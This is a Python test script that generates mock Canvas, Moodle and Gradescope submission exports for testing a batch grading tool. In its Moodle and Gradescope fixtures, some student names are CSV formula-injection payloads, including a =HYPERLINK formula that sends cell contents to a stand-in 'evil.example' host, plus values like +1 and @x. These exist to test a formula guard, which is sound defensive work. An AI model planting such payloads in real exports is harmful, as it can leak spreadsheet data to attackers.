#!/usr/bin/env python3
"""tests/batch/make-lms.py DIR - LMS-shaped classes for tests/batch/run.sh.

Builds, from the fixtures of tests/batch, the trees Canvas, Moodle and
Gradescope hand an instructor:

  DIR/canvas/                 Canvas "Download Submissions", unzipped: flat files
  DIR/moodle/                 Moodle "Download all submissions": folders (and loose files)
  DIR/gradescope/assignment_5_export/   Gradescope "Export Submissions", unzipped as is
  DIR/expected.json           per layout: id -> [parity, sum, total, status, name, lms id, late]

The file names follow the LMS's code (Canvas' ContentZipper: name, LATE,
user id, attachment id, display name; Moodle's download_submissions:
full name, participant id, plugin; Gradescope: submission_<n> folders and
submission_metadata.yml with Ruby-symbol keys).  Students named
=HYPERLINK(...), +1, @x and -1 exercise the CSV formula guard.
"""
import io
import json
import os
import sys
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
REF = os.path.join(HERE, "reference")
FIX = os.path.join(HERE, "fixtures")


def read(path):
    with open(path, "rb") as f:
        return f.read()


OK = {n: read(os.path.join(REF, n)) for n in ("sum.c", "parity.c")}
WRONG = {n: read(os.path.join(FIX, "wrong", n)) for n in ("sum.c", "parity.c")}
BROKEN_SUM = read(os.path.join(FIX, "compile-error", "sum.c"))


def write(path, data):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)


def zipped(files):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for n, d in files.items():
            z.writestr(n, d)
    return buf.getvalue()


FULL = ["5", "8", "13", "ok"]
NO_PARITY = ["0", "8", "8", "missing: parity.c"]
NOTHING = ["0", "0", "0", "missing: parity.c, sum.c"]
WRONG_ROW = ["2", "0", "2", "ok"]
BROKEN_ROW = ["5", "0", "5", "compile-error: sum"]


def canvas(root):
    d = os.path.join(root, "canvas")
    os.makedirs(d)
    f = lambda name, data: write(os.path.join(d, name), data)
    # <name>[_LATE]_<user id>_<attachment id>_<display name>
    f("lovelaceada_101_9001_sum.c", OK["sum.c"])
    f("lovelaceada_101_9002_parity.c", OK["parity.c"])
    # late, and uploaded again: Canvas numbered the repeats; the highest is graded
    f("babbagecharles_LATE_102_9003_sum-1.c", OK["sum.c"])
    f("babbagecharles_LATE_102_9004_parity.c", WRONG["parity.c"])
    f("babbagecharles_LATE_102_9005_parity-1.c", WRONG["parity.c"])
    f("babbagecharles_LATE_102_9006_parity-2.c", OK["parity.c"])
    f("babbagecharles_LATE_102_9007_notes-1.txt", b"not a problem file: keeps its name\n")
    f("hoppergrace_103_text.html", b"<p>I typed my answer instead</p>\n")      # a text entry
    f("turingalan_104_9008_hw3.zip", zipped({"hw3/" + n: v for n, v in OK.items()}))  # one archive
    f("+1_105_9009_sum.c", WRONG["sum.c"])                                         # formula-like names
    f("+1_105_9010_parity.c", WRONG["parity.c"])
    f("@x_106_9011_sum.c", OK["sum.c"])
    f("notes.txt", b"the instructor's own notes\n")                                # not a submission
    return {
        "lovelaceada_101": FULL + ["lovelaceada", "101", False],
        "babbagecharles_102": FULL + ["babbagecharles", "102", True],
        "hoppergrace_103": NOTHING + ["hoppergrace", "103", False],
        "turingalan_104": FULL + ["turingalan", "104", False],
        "+1_105": WRONG_ROW + ["+1", "105", False],
        "@x_106": NO_PARITY + ["@x", "106", False],
    }


HYPER = '=HYPERLINK("http:__evil.example_?"&A1,"click")'


def moodle(root):
    d = os.path.join(root, "moodle")
    os.makedirs(d)
    f = lambda name, data: write(os.path.join(d, name), data)
    for n, v in OK.items():
        f("Ada Lovelace_201_assignsubmission_file_/" + n, v)
    f("Ada Lovelace_201_assignsubmission_onlinetext_/onlinetext.html", b"<p>see the files</p>\n")
    f(HYPER + "_202_assignsubmission_file_/sum.c", OK["sum.c"])
    f("+1_203_assignsubmission_file_/hw.zip", zipped(OK))                 # a zip uploaded as the only file
    f("@x_204_assignsubmission_file_/sum.c", BROKEN_SUM)
    f("@x_204_assignsubmission_file_/parity.c", OK["parity.c"])
    for n, v in WRONG.items():                                              # without "download in folders"
        f("Grace Hopper_205_assignsubmission_file_" + n, v)
    f("-1_206_assignsubmission_onlinetext_/onlinetext.html", b"<p>no files</p>\n")
    for n, v in OK.items():                                                 # blind marking
        f("Participant_207_assignsubmission_file_/sub dir/" + n, v)
    f("grades-old.csv", b"id,grade\n")                                      # not a submission
    return {
        "Ada Lovelace_201": FULL + ["Ada Lovelace", "201", False],
        HYPER + "_202": NO_PARITY + [HYPER, "202", False],
        "+1_203": FULL + ["+1", "203", False],
        "@x_204": BROKEN_ROW + ["@x", "204", False],
        "Grace Hopper_205": WRONG_ROW + ["Grace Hopper", "205", False],
        "-1_206": NOTHING + ["-1", "206", False],
        "Participant_207": FULL + ["Participant", "207", False],
    }


def gradescope(root):
    d = os.path.join(root, "gradescope", "assignment_5_export")
    os.makedirs(d)
    f = lambda name, data: write(os.path.join(d, name), data)
    meta = """\
submission_301:
  :submitters:
  - :name: Ada Lovelace
    :sid: '1815'
    :email: ada@example.edu
  :created_at: 2024-03-01 10:00:00.000000000 -08:00
  :score: 0.0
  :history: []
submission_302:
  :submitters:
  - :name: Charles Babbage
    :sid: '1791'
    :email: cb@example.edu
  - :name: Grace Hopper
    :sid: '1906'
    :email: gh@example.edu
  :created_at: 2024-03-01 11:00:00.000000000 -08:00
submission_303:
  :submitters:
  - :name: '=HYPERLINK("http://evil.example/","x")'
    :sid: '+1'
    :email: '@x'
submission_304:
  :submitters:
  - :name: Alan Turing
    :sid: '1912'
"""
    f("submission_metadata.yml", meta.encode())
    for n, v in OK.items():
        f("submission_301/" + n, v)
    for n, v in WRONG.items():
        f("submission_302/" + n, v)
    f("submission_303/sum.c", OK["sum.c"])
    f("submission_304/hw.zip", zipped(OK))
    gs_hyper = '=HYPERLINK("http:__evil.example_","x")'
    return {
        "Ada Lovelace_301": FULL + ["Ada Lovelace", "301", False],
        "Charles Babbage_302": WRONG_ROW + ["Charles Babbage, Grace Hopper", "302", False],
        gs_hyper + "_303": NO_PARITY + ['=HYPERLINK("http://evil.example/","x")', "303", False],
        "Alan Turing_304": FULL + ["Alan Turing", "304", False],
    }


def main():
    root = sys.argv[1]
    os.makedirs(root)
    expected = {"canvas": canvas(root), "moodle": moodle(root), "gradescope": gradescope(root)}
    with open(os.path.join(root, "expected.json"), "w") as f:
        json.dump(expected, f, indent=1)


if __name__ == "__main__":
    main()
